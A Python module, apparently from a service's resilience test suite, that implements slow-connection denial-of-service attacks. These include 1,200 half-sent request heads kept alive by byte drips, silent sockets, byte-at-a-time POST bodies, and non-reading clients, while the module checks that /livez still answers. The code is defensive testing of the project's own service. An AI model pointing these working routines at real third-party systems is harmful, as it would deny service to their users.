"""Connections that are held, dripped into, or not read."""

from __future__ import annotations

import socket
import time
from contextlib import suppress
from typing import TYPE_CHECKING

from verification.hostile.attacks.base import ANY_CLIENT, TENANT, Attack
from verification.hostile.wire import IdleConnections, ask, head, open_socket

if TYPE_CHECKING:
    from verification.hostile.environment import Environment


class HalfHeads(Attack):
    id, title, attacker = "s07", "1,200 connections with half a request head", ANY_CLIENT
    seconds = 14.0
    connections: IdleConnections

    def first(self, env: Environment) -> bytes:
        """Return the bytes that each connection sends first."""
        return b"GET /livez HTTP/1.1\r\nHost: x\r\nX-Slow: "

    def play(self, env: Environment, until: float) -> None:
        self.connections = IdleConnections(env.url)
        self.connections.open(1200, self.first(env), until=until - 4)
        lives = 0
        while time.monotonic() < until:
            answer = ask(env.url, "GET", "/livez", timeout=2.0, as_neighbour=True)
            lives += answer.status == 200
            self.answers[f"livez {answer.status}"] += 1
            self._drip()
            time.sleep(0.5)
        self.figures["held"] = len(self.connections.sockets)
        self.figures["refused"] = self.connections.refused
        self.must(lives > 0, "/livez was not answered while they were held")

    def _drip(self) -> None:
        """Send a byte on each, so that no idle time-out expires."""
        for sock in self.connections.sockets:
            try:
                sock.setblocking(False)
                sock.send(b"a")
            except OSError:
                continue

    def end(self, env: Environment) -> None:
        self.connections.close()


class SilentConnections(HalfHeads):
    id, title = "s07b", "1,200 connections that send no byte"

    def first(self, env: Environment) -> bytes:
        return b""

    def _drip(self) -> None:
        """Send no byte."""


class SlowBodies(HalfHeads):
    id, title, attacker = "s07c", "400 submits whose body comes a byte at a time", TENANT

    def first(self, env: Environment) -> bytes:
        sent = {"Content-Type": "application/json", "Content-Length": "100000"}
        return head("POST", "/api/v1/queue/submit", key=env.attacker_key, headers=sent) + b"{"


class SlowReaders(Attack):
    id, title, attacker = "s07d", "200 connections that request lists and never read the answers", TENANT
    seconds = 10.0

    def play(self, env: Environment, until: float) -> None:
        self.sockets: list[socket.socket] = []
        data = head("GET", "/api/v1/queue/jobs?limit=200", key=env.attacker_key) * 10
        for _ in range(200):
            if time.monotonic() > until - 2:
                break
            try:
                sock = open_socket(env.url, 2.0)
            except OSError:
                continue
            self.sockets.append(sock)
            with suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
                sock.sendall(data)
        self.figures["held"] = len(self.sockets)
        time.sleep(max(0.0, until - time.monotonic()))

    def end(self, env: Environment) -> None:
        for sock in self.sockets:
            sock.close()


ATTACKS = (SlowBodies, SlowReaders, SilentConnections, HalfHeads)
